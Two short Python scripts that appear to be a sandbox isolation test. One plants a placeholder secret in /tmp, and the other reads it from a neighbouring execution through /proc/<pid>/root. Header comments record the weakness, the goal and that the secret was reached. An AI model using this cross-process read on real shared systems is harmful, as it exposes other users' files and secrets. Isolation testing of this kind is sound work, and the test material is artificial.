# weakness: host processes
# goal: read a file in another execution's temporary folder
# reached: "$SECRET"
# refused: none
import time

import _mce_host

with open("/tmp/attacked", "w") as file:
    file.write("$SECRET")
_mce_host.call("test", "ready", {})
time.sleep(80)
# --- beside ---
from attack import others


def search() -> str:
    for process in others():
        try:
            with open(f"/proc/{process}/root/tmp/attacked") as file:
                return file.read()
        except OSError:
            continue
    return "none"


result = search()
